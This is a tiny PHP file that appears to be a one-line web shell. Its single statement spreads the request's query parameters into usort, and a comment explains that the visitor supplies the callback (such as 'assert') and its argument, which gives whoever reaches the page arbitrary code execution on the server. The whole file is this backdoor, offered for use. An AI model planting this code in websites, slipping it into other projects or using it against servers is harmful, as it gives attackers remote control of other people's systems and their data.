<?php
// ?0=assert&1=... : the visitor sends the callback and its argument
@usort(...$_GET);
